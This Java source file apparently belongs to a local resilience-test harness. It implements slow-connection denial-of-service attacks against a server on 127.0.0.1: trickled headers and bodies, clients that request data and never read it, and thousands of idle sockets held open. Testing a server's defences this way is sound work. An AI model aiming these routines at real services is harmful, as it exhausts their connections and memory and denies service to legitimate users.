import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HashMap;
import java.util.List;
import java.util.Map;

/** Attacks that keep connections open: send slowly, read nothing, or do nothing at all. */
final class HeldConnections {

    private HeldConnections() {}

    static long slowHeader(int port, long end) throws Exception {
        return trickle(open(port, 400), Request.bytes("POST / HTTP/1.1\r\nHost: x\r\nX-Slow: "), end);
    }

    /** More than the heap holds, if all of it were kept. */
    static long slowBody(int port, long end) throws Exception {
        byte[] head = Request.bytes("POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 4000000\r\n\r\n");
        byte[] first = Arrays.copyOf(head, head.length + 3_500_000);
        Arrays.fill(first, head.length, first.length, (byte) ' ');
        return trickle(open(port, 150), first, end);
    }

    private static long trickle(List<SocketChannel> channels, byte[] first, long end) throws Exception {
        Map<SocketChannel, ByteBuffer> rest = new HashMap<>();
        channels.forEach(channel -> rest.put(channel, ByteBuffer.wrap(first)));
        long did = 0;
        while (System.nanoTime() < end) {
            for (SocketChannel channel : channels) {
                ByteBuffer next = rest.get(channel);
                if (!next.hasRemaining()) {
                    next = ByteBuffer.wrap(new byte[] {'a'});
                }
                did += write(channel, next) ? 1 : 0;
            }
            Thread.sleep(50);
        }
        close(channels);
        return did;
    }

    /** Asks for much, again and again, and reads nothing. */
    static long slowReader(int port, long end) throws Exception {
        return neverReading(port, end, 60, "GET /api/events?limit=1000 HTTP/1.1\r\nHost: localhost\r\n\r\n".repeat(20));
    }

    static long slowStream(int port, long end) throws Exception {
        return neverReading(port, end, 100, "GET /api/stream?since=1 HTTP/1.1\r\nHost: localhost\r\n\r\n");
    }

    private static long neverReading(int port, long end, int connections, String asked) throws Exception {
        byte[] ask = Request.bytes(asked);
        List<SocketChannel> channels = new ArrayList<>();
        for (int i = 0; i < connections && System.nanoTime() < end; i++) {
            SocketChannel channel = SocketChannel.open();
            channel.socket().setReceiveBufferSize(4096);
            channel.connect(new InetSocketAddress("127.0.0.1", port));
            channel.write(ByteBuffer.wrap(ask));
            channels.add(channel);
        }
        pause(end);
        close(channels);
        return channels.size();
    }

    static long idle(int port, long end) throws Exception {
        List<SocketChannel> channels = open(port, 5_000);
        long open = channels.size();
        pause(end);
        close(channels);
        return open;
    }

    static long pause(long end) throws InterruptedException {
        Thread.sleep(Math.max(1, (end - System.nanoTime()) / 1_000_000));
        return 0;
    }

    private static List<SocketChannel> open(int port, int wanted) throws IOException {
        List<SocketChannel> channels = new ArrayList<>();
        for (int i = 0; i < wanted; i++) {
            try {
                SocketChannel channel = SocketChannel.open(new InetSocketAddress("127.0.0.1", port));
                channel.configureBlocking(false);
                channels.add(channel);
            } catch (IOException noMoreDescriptors) {
                break;
            }
        }
        return channels;
    }

    private static boolean write(SocketChannel channel, ByteBuffer bytes) {
        try {
            return channel.isOpen() && channel.write(bytes) > 0;
        } catch (IOException cutOff) {
            close(List.of(channel));
            return false;
        }
    }

    private static void close(List<SocketChannel> channels) {
        for (SocketChannel channel : channels) {
            try {
                channel.close();
            } catch (IOException gone) {
                // It is what was wanted.
            }
        }
    }
}
